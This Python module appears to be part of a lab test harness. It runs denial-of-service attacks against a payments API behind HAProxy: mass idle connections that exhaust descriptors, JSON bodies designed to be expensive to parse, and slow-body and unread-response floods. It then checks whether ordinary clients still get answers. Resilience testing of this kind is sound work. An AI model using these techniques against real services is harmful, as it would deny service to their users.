"""Attacks that no test by day can make, as they need the limits of a real process or of a real HAProxy before it."""

import socket
import time
from collections import Counter
from contextlib import ExitStack, closing
from http.client import HTTPConnection, HTTPException

from lab.attack.target import PATIENCE, AttackResult, Target

READ = "/api/v1/payments/context"  # which needs the database, and with it a descriptor
MANY = 1000
FEW = 5  # addresses that share them


def attack_many_addresses_take_all_descriptors(target: Target) -> AttackResult:
    """Opens many connections from several addresses while somebody is connected, who asks then, and newcomers after a
    while."""
    with ExitStack() as stack:
        early = stack.enter_context(closing(HTTPConnection(*target.address, timeout=PATIENCE)))
        _read(target, early)
        opened = [stack.enter_context(target.connect(source=f"127.0.0.{68 + n % FEW}")) for n in range(MANY)]
        during = _read(target, early)
        # They are given up by and by: the last of them ends when all have.
        ended = all(_ends(client) for client in opened)
        after = target.outcome(READ, "127.0.0.79")
    happened = f"connected before: {during}; all {'ended' if ended else 'stay'}; newcomer: {after}"
    return AttackResult(
        f"{MANY} idle connections of {FEW} addresses", happened, (during, ended, after) != ("200", True, "200")
    )


def _read(target: Target, connected: HTTPConnection) -> str:
    """The status that one gets who stays connected."""
    try:
        connected.request("GET", READ, headers=target.as_key)
        with connected.getresponse() as answer:
            answer.read()
            return str(answer.status)
    except (OSError, HTTPException) as error:
        return type(error).__name__


def _ends(client: socket.socket) -> bool:
    try:
        return client.recv(1) == b""
    except TimeoutError:
        return False
    except OSError:
        return True


BODY_ROUNDS = 10
COSTLY_BODY = 0.05  # seconds of processor time for one request; what is usual costs a hundredth of it
BODIES = {
    "1e308": b'{"amount":150000,"x":[' + b",".join([b"1e308"] * 10_500) + b"]}",
    "-1E-323": b'{"amount":150000,"x":[' + b",".join([b"-1E-323"] * 7_800) + b"]}",
    "lists": b'{"amount":150000,"x":[' + b",".join([b"[" * 29 + b"]" * 29] * 1_090) + b"]}",
    "digits": b'{"amount":150000,"x":[' + b",".join([b"9" * 4_000] * 15) + b"]}",
}


def attack_costly_json(target: Target) -> AttackResult:
    """Sends numbers and lists that are dear to read to `initiate`, whose bodies may be the largest."""
    worst, what = 0.0, ""
    headers = target.as_key | {"Content-Type": "application/json"}
    for shape, body in BODIES.items():
        before = target.cpu()
        for _ in range(BODY_ROUNDS):
            target.ask("POST", "/api/v1/payments/initiate", content=body, headers=headers)
        spent = (target.cpu() - before) / BODY_ROUNDS
        if spent >= worst:
            worst, what = spent, shape
    happened = f"at most {worst * 1000:.0f} ms of processor time for each ({what})"
    return AttackResult(f"63 KB of {', '.join(BODIES)} to initiate", happened, worst > COSTLY_BODY)


# Clients that keep the connections of HAProxy to a server: each costs them one of their own and a few bytes.
CLIENTS = 300  # each with an address of its own
LONG = 66_000  # bytes: more than HAProxy keeps of a body
OTHERS = 5
PAUSE = 1.0  # the attackers' own, until what they sent has arrived


def attack_bodies_that_stop(target: Target) -> AttackResult:
    """Sends a third of a body on each of many connections, and nothing more."""
    head = b"POST /api/v1/public/payments/PAY-20250131-7K2M9X/process HTTP/1.1\r\nHost: x\r\nContent-Length: 200000\r\n\r\n"
    return _through_haproxy(target.front, f"{CLIENTS} bodies that stop", head + b"x" * LONG)


def attack_long_answers_that_nobody_reads(target: Target) -> AttackResult:
    """Asks for more than HAProxy keeps on each of many connections, and reads nothing."""
    asked = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n"
    return _through_haproxy(target.front, f"{CLIENTS} long answers that nobody reads", asked)


def _through_haproxy(front: Target, what: str, sent: bytes) -> AttackResult:
    """What those are answered who did nothing."""
    with ExitStack() as stack:
        for number in range(CLIENTS):
            address = f"127.0.{1 + number // 250}.{1 + number % 250}"
            client = stack.enter_context(front.connect(source=address, keeps=4096))
            client.settimeout(1)
            try:
                client.sendall(sent)
            except OSError:  # refused already, or not read
                continue
        time.sleep(PAUSE)
        told = Counter(front.outcome(READ, f"127.0.9.{1 + number}") for number in range(OTHERS))
    happened = ", ".join(f"{count} x {status}" for status, count in told.items())
    return AttackResult(what, f"others through HAProxy: {happened}", set(told) != {"200"})
